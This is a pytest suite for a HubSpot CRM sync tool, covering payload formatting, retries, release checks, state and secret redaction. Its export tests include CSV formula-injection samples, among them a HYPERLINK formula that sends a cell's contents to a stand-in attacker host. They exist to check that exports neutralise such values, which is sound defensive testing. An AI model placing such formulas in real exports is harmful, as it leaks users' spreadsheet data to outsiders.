"""Unit tests of the CRM sync: payload formatting, planning, the build check, the rate
limiter, the client's retry and split logic and what an answer confirms (over
httpx.MockTransport), exports, redaction, the https rule, and the command over a small
published release (no dbt build) with the state file and the stand-in API on loopback."""

from __future__ import annotations

import datetime as dt
import decimal
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from hubspot_stub import HubSpotStub

from customer_health.crm_sync.hubspot import HubSpotClient, HubSpotError, RetryPolicy
from customer_health.crm_sync.payload import (
    PayloadError,
    Record,
    build_records,
    format_value,
    load_payload_model,
    payload_hash,
)
from customer_health.crm_sync.ratelimit import SlidingWindowLimiter
from customer_health.crm_sync.sync import make_plan
from customer_health.dbt_artifacts import BuildCheckError, build_problems, check_build

TOKEN = "pat-na1-unit-test-secret"


def manifest_for(columns: dict[str, Any]) -> dict[str, Any]:
    return {
        "nodes": {
            "model.p.sync_crm_account_health": {
                "unique_id": "model.p.sync_crm_account_health",
                "resource_type": "model",
                "name": "sync_crm_account_health",
                "schema": "marts",
                "alias": "sync_crm_account_health",
                "columns": columns,
            }
        }
    }


def column(prop_type: str, **extra: Any) -> dict[str, Any]:
    return {"description": "d", "meta": {"crm_property": {"type": prop_type, **extra}}}


MODEL = load_payload_model(
    manifest_for(
        {
            "account": column("string", is_external_id=True),
            "score": column("number"),
            "band": column("enumeration", options_from="health_bands"),
            "as_of": column("date"),
        }
    )
)


@pytest.mark.parametrize(
    ("value", "prop_type", "text"),
    [
        (None, "number", ""),
        (74.9, "number", "74.9"),
        (100.0, "number", "100"),
        (-13.5, "number", "-13.5"),
        (3, "number", "3"),
        (decimal.Decimal("12.30"), "number", "12.3"),
        (dt.date(2024, 2, 29), "date", "2024-02-29"),
        (True, "bool", "true"),
        ("healthy", "enumeration", "healthy"),
    ],
)
def test_format_value(value: Any, prop_type: str, text: str) -> None:
    assert format_value(value, prop_type) == text


@pytest.mark.parametrize(
    ("value", "prop_type"),
    [("74.9", "number"), (True, "number"), (dt.datetime(2024, 1, 1, 5), "date")],
)
def test_format_value_refuses_the_wrong_type(value: Any, prop_type: str) -> None:
    with pytest.raises(PayloadError):
        format_value(value, prop_type)


def test_payload_hash_ignores_key_order_and_sees_every_value() -> None:
    assert payload_hash({"a": "1", "b": "2"}) == payload_hash({"b": "2", "a": "1"})
    assert payload_hash({"a": "1", "b": "2"}) != payload_hash({"a": "1", "b": "2.1"})
    assert payload_hash({"a": ""}) != payload_hash({})


def test_build_records_sorts_and_keeps_the_external_id_out_of_properties() -> None:
    rows = [
        ("b", 50.0, "at_risk", dt.date(2024, 1, 2)),
        ("a", None, "insufficient_data", dt.date(2024, 1, 2)),
    ]
    records = build_records(MODEL, ["account", "score", "band", "as_of"], rows)
    assert [record.record_id for record in records] == ["a", "b"]
    assert records[0].properties == {
        "score": "",
        "band": "insufficient_data",
        "as_of": "2024-01-02",
    }


@pytest.mark.parametrize(
    ("columns", "rows", "message"),
    [
        (["account", "score", "band"], [], "the manifest declares"),
        (
            ["account", "score", "band", "as_of"],
            [("a", 1.0, "x", None), ("a", 2.0, "x", None)],
            "duplicate ids ['a']",
        ),
        (["account", "score", "band", "as_of"], [(None, 1.0, "x", None)], "1 rows without"),
    ],
)
def test_build_records_refuses_a_bad_payload(
    columns: list[str], rows: list[tuple[Any, ...]], message: str
) -> None:
    with pytest.raises(PayloadError, match=message.replace("[", r"\[").replace("]", r"\]")):
        build_records(MODEL, columns, rows)


@pytest.mark.parametrize(
    ("columns", "message"),
    [
        (
            {"a": column("string", is_external_id=True), "b": {"description": "no meta"}},
            "b has no meta.crm_property",
        ),
        (
            {"a": column("string", is_external_id=True), "b": column("enumeration")},
            "needs crm_property.options_from",
        ),
        ({"a": column("string"), "b": column("number")}, "exactly one column"),
        ({"a": column("string", is_external_id=True), "b": column("float")}, "is not one of"),
    ],
)
def test_payload_model_is_validated(columns: dict[str, Any], message: str) -> None:
    with pytest.raises(PayloadError, match=message):
        load_payload_model(manifest_for(columns))


def test_plan_splits_creates_updates_unchanged() -> None:
    records = [Record(key, {"v": key}, payload_hash({"v": key})) for key in "abc"]
    confirmed = {"a": payload_hash({"v": "a"}), "b": "old"}
    plan = make_plan(records, confirmed)
    assert (
        [r.record_id for r in plan.creates],
        [r.record_id for r in plan.updates],
        plan.unchanged,
    ) == (["c"], ["b"], 1)
    assert [r.record_id for r in make_plan(records, confirmed, full=True).to_send] == [
        "a",
        "b",
        "c",
    ]


class FakeClock:
    def __init__(self) -> None:
        self.now = 0.0
        self.sleeps: list[float] = []

    def __call__(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.sleeps.append(seconds)
        self.now += seconds


def test_limiter_never_exceeds_the_rolling_window() -> None:
    clock = FakeClock()
    limiter = SlidingWindowLimiter(5, 10.0, clock=clock, sleep=clock.sleep)
    stamps = []
    for _ in range(23):
        limiter.acquire()
        stamps.append(clock.now)
        clock.now += 0.1  # the request itself
    assert all(stamps[index + 5] - stamps[index] >= 10.0 - 1e-9 for index in range(len(stamps) - 5))
    assert stamps[5] == pytest.approx(10.0)
    assert stamps[-1] < 41.0  # and it does not wait longer than needed


# --- the build check ------------------------------------------------------------------------

GATE_MANIFEST = {
    "nodes": {
        "model.p.sync": {"resource_type": "model", "name": "sync"},
        "model.p.dim": {"resource_type": "model", "name": "dim"},
        "model.p.other": {"resource_type": "model", "name": "other"},
        "test.p.unique_dim": {
            "resource_type": "test",
            "name": "unique_dim",
            "attached_node": "model.p.dim",
            "depends_on": {"nodes": ["model.p.dim"]},
        },
        "test.p.unique_other": {
            "resource_type": "test",
            "name": "unique_other",
            "attached_node": "model.p.other",
            "depends_on": {"nodes": ["model.p.other"]},
        },
        "test.p.singular_dim": {
            "resource_type": "test",
            "name": "singular_dim",
            "attached_node": None,
            "depends_on": {"nodes": ["model.p.dim", "seed.p.bands"]},
        },
    },
    "parent_map": {
        "model.p.sync": ["model.p.dim"],
        "model.p.dim": ["seed.p.bands"],
        "model.p.other": ["seed.p.bands"],
    },
}


def run_results(which: str = "build", **statuses: str) -> dict[str, Any]:
    base = {
        "model.p.sync": "success",
        "test.p.unique_dim": "pass",
        "test.p.unique_other": "pass",
        "test.p.singular_dim": "pass",
    }
    base.update({key.replace("__", "."): value for key, value in statuses.items()})
    return {
        "args": {"which": which},
        "results": [{"unique_id": key, "status": value} for key, value in base.items()],
    }


@pytest.mark.parametrize(
    ("results", "message"),
    [
        (run_results(**{"test__p__unique_dim": "fail"}), "test.p.unique_dim fail"),
        (run_results(**{"test__p__singular_dim": "error"}), "test.p.singular_dim error"),
        (run_results(**{"model__p__sync": "error"}), "ended with status 'error'"),
        (run_results(which="run"), "not `dbt build`"),
        ({"args": {"which": "build"}, "results": []}, "did not build"),
    ],
)
def test_build_check_refuses(results: dict[str, Any], message: str) -> None:
    problems = build_problems(results, manifest=GATE_MANIFEST, model_id="model.p.sync")
    assert any(message in problem for problem in problems), problems


def test_check_build_reads_the_run_results_of_the_target_dir(tmp_path: Path) -> None:
    with pytest.raises(BuildCheckError, match="no dbt run results"):
        check_build(tmp_path, manifest=GATE_MANIFEST, model_id="model.p.sync")
    (tmp_path / "run_results.json").write_text(
        json.dumps(run_results(**{"test__p__unique_dim": "fail"})), encoding="utf-8"
    )
    with pytest.raises(BuildCheckError, match=r"test\.p\.unique_dim fail"):
        check_build(tmp_path, manifest=GATE_MANIFEST, model_id="model.p.sync")
    (tmp_path / "run_results.json").write_text(json.dumps(run_results()), encoding="utf-8")
    check_build(tmp_path, manifest=GATE_MANIFEST, model_id="model.p.sync")


@pytest.mark.parametrize(
    "results",
    [
        run_results(),
        run_results(**{"test__p__unique_dim": "warn"}),
        run_results(**{"test__p__unique_other": "fail"}),  # not an input of the sync
    ],
)
def test_build_check_passes(results: dict[str, Any]) -> None:
    assert build_problems(results, manifest=GATE_MANIFEST, model_id="model.p.sync") == []


# --- the client over a mock transport ------------------------------------------------------


def client_for(handler: Any, sleeps: list[float], max_attempts: int = 4) -> HubSpotClient:
    clock = FakeClock()
    return HubSpotClient(
        "https://crm.invalid",
        TOKEN,
        id_property="health_account_id",
        limiter=SlidingWindowLimiter(100, 10.0, clock=clock, sleep=clock.sleep),
        policy=RetryPolicy(
            max_attempts=max_attempts, backoff_initial=0.5, backoff_max=4.0, jitter=0.1
        ),
        sleep=sleeps.append,
        transport=httpx.MockTransport(handler),
    )


RECORDS = [Record(f"acc_{index}", {"health_score": str(index)}, "h") for index in range(8)]


def batch_answer(ids: list[str], first_object_id: int = 100) -> dict[str, Any]:
    """HubSpot's documented batch upsert answer for these ids."""
    return {
        "status": "COMPLETE",
        "results": [
            {"id": str(first_object_id + index), "properties": {"health_account_id": key}}
            for index, key in enumerate(ids)
        ],
        "startedAt": "2024-06-30T00:00:00Z",
        "completedAt": "2024-06-30T00:00:01Z",
    }


def test_429_waits_at_least_retry_after_and_5xx_backs_off() -> None:
    answers = iter(
        [
            httpx.Response(429, headers={"Retry-After": "7"}),
            httpx.Response(503),
            httpx.Response(200, json=batch_answer(["acc_0", "acc_1"])),
        ]
    )
    sleeps: list[float] = []
    with client_for(lambda request: next(answers), sleeps) as client:
        outcome = client.upsert(RECORDS[:2])
        assert set(outcome.succeeded) == {"acc_0", "acc_1"}
        assert (client.stats.requests, client.stats.retries, client.stats.rate_limited) == (3, 2, 1)
    assert sleeps[0] >= 7.0
    assert 0.5 <= sleeps[1] <= 1.2


def test_retries_are_bounded() -> None:
    sleeps: list[float] = []
    with client_for(lambda request: httpx.Response(500), sleeps, max_attempts=3) as client:
        outcome = client.upsert(RECORDS[:3])
        assert client.stats.requests == 3
    assert outcome.succeeded == {}
    assert {error.error_kind for error in outcome.errors} == {"undelivered"}
    assert "after 3 attempts" in outcome.errors[0].message


def test_a_rejected_batch_is_split_until_the_bad_rows_are_isolated() -> None:
    bad = {"acc_2", "acc_5"}
    sent: list[list[str]] = []

    def handler(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        assert request.headers["Authorization"] == f"Bearer {TOKEN}"
        ids = [item["id"] for item in body["inputs"]]
        sent.append(ids)
        if bad & set(ids):
            return httpx.Response(
                400,
                json={
                    "category": "VALIDATION_ERROR",
                    "message": f"invalid: {sorted(bad & set(ids))}",
                },
            )
        return httpx.Response(200, json=batch_answer(ids))

    with client_for(handler, []) as client:
        outcome = client.upsert(RECORDS)
    assert set(outcome.succeeded) == {record.record_id for record in RECORDS} - bad
    assert {error.record_id for error in outcome.errors} == bad
    assert all(
        error.error_kind == "rejected" and error.http_status == 400 for error in outcome.errors
    )
    assert "invalid: ['acc_2']" in outcome.errors[0].message
    assert outcome.succeeded["acc_0"] == "100"
    assert len(sent) < 2 * len(RECORDS)


def test_auth_failure_stops_without_showing_the_token() -> None:
    with client_for(
        lambda request: httpx.Response(401, json={"message": "bad token"}), []
    ) as client:
        with pytest.raises(HubSpotError) as caught:
            client.upsert(RECORDS[:1])
        assert TOKEN not in repr(client)
    assert "HubSpot refused the token" in str(caught.value)
    assert TOKEN not in str(caught.value)


def test_limiter_counts_a_request_from_its_response() -> None:
    clock = FakeClock()
    limiter = SlidingWindowLimiter(2, 10.0, clock=clock, sleep=clock.sleep)
    with limiter.slot():
        clock.now += 3.0  # a slow response: the server may have seen it at 3.0
    with limiter.slot():
        pass
    with limiter.slot() as waited:
        assert clock.now == pytest.approx(13.0)
    assert waited == pytest.approx(10.0)


def test_state_confirms_records_and_closes_killed_runs(tmp_path: Any) -> None:
    from customer_health.crm_sync.hubspot import RecordError
    from customer_health.crm_sync.state import RunCounts, SyncState, confirmed_hashes

    path = tmp_path / "state.duckdb"
    store = SyncState(path)
    killed = store.begin_run("dest", "changed")
    run = store.begin_run("dest", "changed")
    assert store.mark_interrupted() == 2  # both still `running`
    records = [Record(key, {"v": key}, f"hash-{key}") for key in ("a", "b")]
    store.confirm(run, "dest", records, {"a": "901"}, RunCounts(rows_succeeded=2))
    store.confirm(run, "dest", records[:1], {}, RunCounts(rows_succeeded=3))
    store.record_errors(run, "dest", [RecordError("c", "rejected", 400, "V", "bad")], {})
    store.finish_run(run, RunCounts(rows_succeeded=3), "incomplete", 1, "done")
    rows = store.con.execute(
        "select record_id, payload_hash, crm_object_id from crm_sync_state order by record_id"
    ).fetchall()
    statuses = dict(store.con.execute("select run_id, status from crm_sync_runs").fetchall())
    rejected = store.con.execute("select record_id, message from crm_sync_rejections").fetchall()
    store.close()
    assert rows == [("a", "hash-a", "901"), ("b", "hash-b", None)]
    assert statuses == {killed: "interrupted", run: "incomplete"}
    assert rejected == [("c", "bad")]
    assert confirmed_hashes(path, "dest") == {"a": "hash-a", "b": "hash-b"}
    assert confirmed_hashes(path, "other") == {}
    assert confirmed_hashes(tmp_path / "missing.duckdb", "dest") == {}


# --- what a 200 or 207 answer confirms ----------------------------------------------------

BATCH_IDS = ["acc_0", "acc_1", "acc_2"]


def upsert_answered(response: httpx.Response) -> Any:
    with client_for(lambda request: response, []) as client:
        return client.upsert(RECORDS[:3])


def assert_whole_batch_undelivered(outcome: Any, status: int) -> None:
    """Nothing confirmed: every record of the batch is undelivered, with the answer's status."""
    assert outcome.succeeded == {}
    assert [error.record_id for error in outcome.errors] == BATCH_IDS
    assert {(error.error_kind, error.http_status) for error in outcome.errors} == {
        ("undelivered", status)
    }


@pytest.mark.parametrize(
    "response",
    [
        httpx.Response(200, text="<html><body>Please sign in to the proxy</body></html>"),
        httpx.Response(200, text=""),
        httpx.Response(201, text="OK"),
        httpx.Response(200, json=[batch_answer(BATCH_IDS)]),
        httpx.Response(200, json={"ok": True}),
        httpx.Response(200, json={"results": batch_answer(BATCH_IDS)["results"]}),
        httpx.Response(200, json={**batch_answer(BATCH_IDS), "status": "PENDING"}),
        httpx.Response(200, json={"status": "COMPLETE", "results": "done"}),
        httpx.Response(200, json={"status": "COMPLETE", "results": [None, 1, 2]}),
        httpx.Response(
            200,
            json={
                "status": "COMPLETE",
                "results": [{"id": "1", "objectWriteTraceId": key} for key in BATCH_IDS],
            },
        ),
        httpx.Response(
            200,
            json={
                "status": "COMPLETE",
                "results": [{"properties": {"health_account_id": key}} for key in BATCH_IDS],
            },
        ),
        httpx.Response(200, json=batch_answer(["acc_0", "acc_1"])),
        httpx.Response(200, json=batch_answer(["acc_0", "acc_1", "someone_else"])),
        httpx.Response(200, json={"status": "COMPLETE", "results": []}),
    ],
    ids=[
        "html",
        "empty",
        "text-201",
        "json-array",
        "other-object",
        "no-status",
        "pending",
        "results-not-a-list",
        "results-not-objects",
        "results-without-properties",
        "results-without-ids",
        "a-record-missing",
        "another-record",
        "no-results",
    ],
)
def test_a_2xx_answer_that_is_not_hubspot_batch_json_confirms_nothing(
    response: httpx.Response,
) -> None:
    outcome = upsert_answered(response)
    assert_whole_batch_undelivered(outcome, response.status_code)
    assert "sent again next run" in outcome.errors[0].message


def test_a_200_with_a_result_for_every_record_confirms_them_with_their_object_ids() -> None:
    outcome = upsert_answered(httpx.Response(200, json=batch_answer(list(reversed(BATCH_IDS)))))
    assert outcome.errors == []
    assert outcome.succeeded == {"acc_0": "102", "acc_1": "101", "acc_2": "100"}


def multi_status(results: Any = None, errors: Any = None, **extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"status": "COMPLETE", **extra}
    if results is not None:
        body["results"] = results
    if errors is not None:
        body["errors"] = errors
    return body


GOOD_207_RESULTS = batch_answer(["acc_0"])["results"]
GOOD_207_ERRORS = [
    {
        "status": "error",
        "category": "VALIDATION_ERROR",
        "message": "bad",
        "context": {"ids": ["acc_1"]},
    }
]


@pytest.mark.parametrize(
    "response",
    [
        httpx.Response(207, text="<html>Multi-Status</html>"),
        httpx.Response(207, json=["acc_0"]),
        httpx.Response(207, json=multi_status(errors=GOOD_207_ERRORS)),
        httpx.Response(207, json=multi_status(results=GOOD_207_RESULTS)),
        httpx.Response(207, json=multi_status(results=GOOD_207_RESULTS, errors="many")),
        httpx.Response(207, json=multi_status(results=GOOD_207_RESULTS, errors=["bad"])),
        httpx.Response(
            207,
            json=multi_status(
                results=GOOD_207_RESULTS, errors=[{"message": "bad", "context": ["acc_1"]}]
            ),
        ),
        httpx.Response(
            207,
            json=multi_status(
                results=GOOD_207_RESULTS, errors=[{"message": "bad", "context": {"ids": "acc_1"}}]
            ),
        ),
        httpx.Response(207, json=multi_status(results={"acc_0": 1}, errors=GOOD_207_ERRORS)),
        httpx.Response(207, json=multi_status(results=[{"id": "1"}], errors=GOOD_207_ERRORS)),
    ],
    ids=[
        "html",
        "json-array",
        "no-results",
        "no-errors",
        "errors-not-a-list",
        "errors-not-objects",
        "context-not-an-object",
        "context-ids-not-a-list",
        "results-not-a-list",
        "result-without-properties",
    ],
)
def test_a_malformed_207_leaves_the_batch_undelivered_without_a_crash(
    response: httpx.Response,
) -> None:
    outcome = upsert_answered(response)
    assert_whole_batch_undelivered(outcome, 207)


def test_a_207_confirms_its_results_rejects_its_errors_and_leaves_the_rest_undelivered() -> None:
    outcome = upsert_answered(
        httpx.Response(207, json=multi_status(results=GOOD_207_RESULTS, errors=GOOD_207_ERRORS))
    )
    assert outcome.succeeded == {"acc_0": "100"}
    assert [(e.record_id, e.error_kind, e.message) for e in outcome.errors] == [
        ("acc_1", "rejected", "bad"),
        ("acc_2", "undelivered", "not in the 207 response"),
    ]


# --- exports ---------------------------------------------------------------------------------

EXPORT_MODEL = load_payload_model(
    manifest_for(
        {
            "account": column("string", is_external_id=True),
            "score": column("number"),
            "change": column("number"),
            "note": column("string"),
        }
    )
)
EXPORT_RECORDS = [
    Record(
        '=HYPERLINK("https://evil.example/?d="&A1,"open")',
        {"score": "74.9", "change": "-13.5", "note": "+1 555 0100"},
        "h1",
    ),
    Record("@SUM(A1:A9)", {"score": "", "change": "-0.1", "note": "-2+3"}, "h2"),
    Record("acc_3", {"score": "3", "change": "1e-05", "note": "\tcmd"}, "h3"),
    Record("acc_4", {"score": "-inf", "change": "0", "note": "\rcmd"}, "h4"),
    Record("acc_5", {"score": "50", "change": "2", "note": "plain, with = inside"}, "h5"),
]
EXPORTED = [
    {
        "account": """'=HYPERLINK("https://evil.example/?d="&A1,"open")""",
        "score": "74.9",
        "change": "-13.5",
        "note": "'+1 555 0100",
    },
    {"account": "'@SUM(A1:A9)", "score": "", "change": "-0.1", "note": "'-2+3"},
    {"account": "acc_3", "score": "3", "change": "1e-05", "note": "'\tcmd"},
    {"account": "acc_4", "score": "'-inf", "change": "0", "note": "'\rcmd"},
    {"account": "acc_5", "score": "50", "change": "2", "note": "plain, with = inside"},
]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_exports_neutralise_formulas_and_keep_numbers(tmp_path: Path, fmt: str) -> None:
    import csv

    from customer_health.crm_sync.files import write_payload

    out = tmp_path / f"health.{fmt}"
    write_payload(out, fmt, EXPORT_MODEL, EXPORT_RECORDS)
    if fmt == "csv":
        with out.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
    else:
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert rows == EXPORTED


# --- the command over a small published release ---------------------------------------------

PAYLOAD_COLUMNS = {
    "health_account_id": column("string", is_external_id=True),
    "health_score": column("number"),
    "health_score_change_30d": column("number"),
    "health_note": column("string"),
}
PUBLISHED_ROWS = [
    ("acc_1", 74.9, -13.5, "steady"),
    ("acc_2", 50.0, 2.0, "watch"),
    ("acc_3", None, None, "new"),
]
UNPUBLISHED_ROWS = [
    ("acc_1", 11.0, -70.0, "from a build whose publish was refused"),
    ("acc_2", 12.0, -60.0, "from a build whose publish was refused"),
    ("acc_3", 13.0, -50.0, "from a build whose publish was refused"),
]


def write_warehouse(path: Path, rows: list[tuple[Any, ...]]) -> None:
    import duckdb

    path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(path)) as con:
        con.execute("create schema marts")
        con.execute(
            "create table marts.sync_crm_account_health (health_account_id varchar, "
            "health_score double, health_score_change_30d double, health_note varchar)"
        )
        con.executemany("insert into marts.sync_crm_account_health values (?, ?, ?, ?)", rows)


class MiniProject:
    """A dbt target directory, a build database and a serving directory, as `dbt build`
    and `customer-health publish` leave them, for the payload model alone."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.target = root / "target"
        self.serving = root / "serving"
        self.build_db = root / "build" / "customer_health.duckdb"
        self.state = root / "crm_sync_state.duckdb"
        self.target.mkdir()
        manifest = manifest_for(PAYLOAD_COLUMNS)
        model_id = "model.p.sync_crm_account_health"
        manifest["nodes"]["test.p.unique_sync"] = {
            "resource_type": "test",
            "name": "unique_sync",
            "attached_node": model_id,
            "depends_on": {"nodes": [model_id]},
        }
        manifest["parent_map"] = {model_id: []}
        (self.target / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")

    def build(self, invocation: str, rows: list[tuple[Any, ...]]) -> None:
        """A passing `dbt build` into the build database."""
        self.build_db.unlink(missing_ok=True)
        write_warehouse(self.build_db, rows)
        results = {
            "metadata": {"invocation_id": invocation},
            "args": {"which": "build"},
            "results": [
                {"unique_id": "model.p.sync_crm_account_health", "status": "success"},
                {"unique_id": "test.p.unique_sync", "status": "pass"},
            ],
        }
        (self.target / "run_results.json").write_text(json.dumps(results), encoding="utf-8")

    def publish(self, invocation: str, rows: list[tuple[Any, ...]]) -> None:
        """Serve these rows as the release of `invocation`."""
        self.serving.mkdir(exist_ok=True)
        served = self.serving / "customer_health.duckdb"
        served.unlink(missing_ok=True)
        write_warehouse(served, rows)
        release = {
            "release_id": f"20240630T000000000000Z-{invocation}",
            "published_at": "2024-06-30T00:00:00",
            "dbt_invocation_id": invocation,
            "git_commit": None,
            "as_of_date": "2024-06-30",
            "tables": {"marts.sync_crm_account_health": len(rows)},
        }
        (self.serving / "release.json").write_text(json.dumps(release), encoding="utf-8")

    def cli(self, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
        from customer_health.crm_sync import cli

        code = cli.main(list(argv))
        captured = capsys.readouterr()
        return code, captured.out + captured.err

    def query(self, sql: str) -> list[tuple[Any, ...]]:
        import duckdb

        with duckdb.connect(str(self.state), read_only=True) as con:
            return con.execute(sql).fetchall()

    def confirmed(self) -> set[str]:
        return {row[0] for row in self.query("select record_id from crm_sync_state")}


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> MiniProject:
    """Build `inv-1` published; the environment points the commands at it."""
    mini = MiniProject(tmp_path)
    mini.build("inv-1", PUBLISHED_ROWS)
    mini.publish("inv-1", PUBLISHED_ROWS)
    for name, value in {
        "HEALTH_DB_PATH": mini.build_db,
        "HEALTH_SERVING_DIR": mini.serving,
        "HEALTH_SYNC_STATE_PATH": mini.state,
        "DBT_TARGET_PATH": mini.target,
        "HUBSPOT_ACCESS_TOKEN": TOKEN,
        "HUBSPOT_API_BASE": "https://crm.invalid",
    }.items():
        monkeypatch.setenv(name, str(value))
    return mini


@pytest.fixture
def stub(project: MiniProject, monkeypatch: pytest.MonkeyPatch) -> Iterator[HubSpotStub]:
    """The stand-in HubSpot on loopback, its properties created by `properties --apply`."""
    from customer_health.crm_sync import cli

    server = HubSpotStub(TOKEN).start()
    monkeypatch.setenv("HUBSPOT_API_BASE", server.base_url)
    try:
        assert cli.main(["properties", "--apply"]) == 0
        yield server
    finally:
        server.stop()


def read_csv(path: Path) -> list[dict[str, str]]:
    import csv

    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def one_line(output: str) -> str:
    lines = output.strip().splitlines()
    assert len(lines) == 1, output
    return lines[0]


def test_an_html_200_leaves_the_rows_undelivered_and_the_next_run_sends_them(
    project: MiniProject, stub: HubSpotStub, capsys: pytest.CaptureFixture[str]
) -> None:
    stub.inject(body="<html><body>Session expired, sign in again</body></html>")
    code, output = project.cli(capsys, "sync")
    assert code == 1, output
    assert project.confirmed() == set()
    assert project.query(
        "select record_id, error_kind, http_status from crm_sync_rejections order by record_id"
    ) == [
        ("acc_1", "undelivered", 200),
        ("acc_2", "undelivered", 200),
        ("acc_3", "undelivered", 200),
    ]
    assert "Session expired" in output
    assert all(
        "sent again next run: <html><body>Session expired" in row[0]
        for row in project.query("select message from crm_sync_rejections")
    )

    code, output = project.cli(capsys, "sync")
    assert code == 0, output
    assert [request.ids for request in stub.upserts()] == [[], ["acc_1", "acc_2", "acc_3"]]
    assert project.confirmed() == {"acc_1", "acc_2", "acc_3"}
    assert set(stub.records()) == {"acc_1", "acc_2", "acc_3"}


# --- the published release ------------------------------------------------------------------


def test_sync_sends_the_published_release_not_the_build_database(
    project: MiniProject, capsys: pytest.CaptureFixture[str]
) -> None:
    out = project.root / "health.csv"
    code, output = project.cli(capsys, "sync", "--file", str(out))
    assert code == 0, output
    assert [(row["health_account_id"], row["health_score"]) for row in read_csv(out)] == [
        ("acc_1", "74.9"),
        ("acc_2", "50"),
        ("acc_3", ""),
    ]
    assert "20240630T000000000000Z-inv-1 (scores as of 2024-06-30)" in output


@pytest.mark.parametrize(
    "argv",
    [["sync"], ["sync", "--dry-run"], ["sync", "--file", "out.csv"], ["properties"]],
    ids=["sync", "dry-run", "file", "properties"],
)
def test_sync_refuses_when_the_latest_build_was_not_published(
    project: MiniProject, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    # A later build whose publish was refused: the serving directory still holds inv-1.
    project.build("inv-2", UNPUBLISHED_ROWS)
    argv = [str(project.root / arg) if arg == "out.csv" else arg for arg in argv]
    code, output = project.cli(capsys, *argv)
    assert code == 2
    line = one_line(output)
    assert "the latest dbt build (invocation inv-2) was not published" in line
    assert "customer-health publish" in line
    assert not project.state.exists()
    assert not (project.root / "out.csv").exists()


def test_sync_refuses_without_a_published_release(
    project: MiniProject, capsys: pytest.CaptureFixture[str]
) -> None:
    import shutil

    shutil.rmtree(project.serving)
    out = project.root / "health.csv"
    for argv in (["--dry-run"], ["--file", str(out)]):
        code, output = project.cli(capsys, "sync", *argv)
        assert code == 2
        assert f"no published release in {project.serving} (no release.json)" in one_line(output)
    assert not out.exists()
    assert not project.state.exists()


def test_the_db_option_reads_another_existing_database_never_the_build_one(
    project: MiniProject, capsys: pytest.CaptureFixture[str]
) -> None:
    other = project.root / "copy_of_a_release.duckdb"
    write_warehouse(other, PUBLISHED_ROWS[:1])
    out = project.root / "health.csv"
    code, output = project.cli(capsys, "sync", "--db", str(other), "--file", str(out))
    assert code == 0, output
    assert [row["health_account_id"] for row in read_csv(out)] == ["acc_1"]

    missing = project.root / "missing.duckdb"
    code, output = project.cli(capsys, "sync", "--db", str(missing), "--dry-run")
    assert code == 2
    assert f"--db {missing} does not exist" in one_line(output)
    assert not missing.exists()

    code, output = project.cli(capsys, "sync", "--db", str(project.build_db), "--dry-run")
    assert code == 2
    assert "is the build database" in one_line(output)

    # The latest build must still be the published one.
    project.build("inv-2", UNPUBLISHED_ROWS)
    code, output = project.cli(capsys, "sync", "--db", str(other), "--dry-run")
    assert code == 2
    assert "was not published" in one_line(output)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (None, "no published release in"),
        ("{not json", "cannot read the release record"),
        ("[]", "is not a JSON object"),
        ('{"release_id": "r1"}', "has no dbt_invocation_id"),
        ('{"dbt_invocation_id": "inv-1"}', "has no release_id"),
    ],
)
def test_a_missing_or_unreadable_release_record_refuses(
    tmp_path: Path, text: str | None, message: str
) -> None:
    from customer_health.crm_sync.release import ReleaseError, read_release

    if text is not None:
        (tmp_path / "release.json").write_text(text, encoding="utf-8")
    with pytest.raises(ReleaseError, match=message) as caught:
        read_release(tmp_path)
    assert str(tmp_path) in str(caught.value)


# --- secrets ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "secrets", "expected"),
    [
        (f"echo: {TOKEN}!", [TOKEN], "echo: [redacted]!"),
        ("pat-x%2Fy%3D and pat-x/y=", ["pat-x/y="], "[redacted] and [redacted]"),
        ('{"Authorization": "Bearer abc.def-123"}', [], '{"Authorization": "Bearer [redacted]"}'),
        ("authorization: bearer xyz", [], "authorization: bearer [redacted]"),
        (
            "POST https://svc:p%40ss@api.example.com/crm?token=t1&idProperty=x&hapikey=k#f",
            [],
            "POST https://[redacted]@api.example.com/crm?token=[redacted]&idProperty=x"
            "&hapikey=[redacted]#f",
        ),
        (
            "see http://user@host/x?client_secret=abc;access_token=def",
            [],
            "see http://[redacted]@host/x?client_secret=[redacted];access_token=[redacted]",
        ),
        (
            "user@example.com wrote https://api.hubapi.com/x?limit=10",
            [],
            "user@example.com wrote https://api.hubapi.com/x?limit=10",
        ),
    ],
)
def test_redact_removes_tokens_bearer_credentials_and_url_credentials(
    text: str, secrets: list[str], expected: str
) -> None:
    from customer_health.crm_sync.redact import redact

    assert redact(text, secrets) == expected
    assert redact(expected, secrets) == expected


def test_secrets_of_a_base_url_include_its_password_query_and_basic_credential() -> None:
    import base64

    from customer_health.crm_sync.redact import redact, secrets_of

    found = secrets_of(TOKEN, "https://svc:p%40ss-word@h.example/?hapikey=qk-123456&limit=5")
    basic = base64.b64encode(b"svc:p@ss-word").decode()
    assert {TOKEN, "p@ss-word", "qk-123456", basic} <= set(found)
    assert "5" not in found
    assert (
        redact(f"echo Basic {basic} and p@ss-word", found) == "echo Basic [redacted] and [redacted]"
    )


@pytest.mark.parametrize("status", [400, 503])
def test_an_echoing_server_never_gets_the_token_printed_or_stored(
    project: MiniProject,
    stub: HubSpotStub,
    capsys: pytest.CaptureFixture[str],
    status: int,
) -> None:
    stub.inject(count=20, status=status, echo=True)
    code, output = project.cli(capsys, "sync", "--max-attempts", "1")
    assert code == 1, output
    code, audit = project.cli(capsys, "audit")
    assert code == 0, audit
    stored = project.query(
        "select destination, category, message from crm_sync_rejections "
        "union all select destination, status, summary from crm_sync_runs"
    )
    assert len(stored) == 4
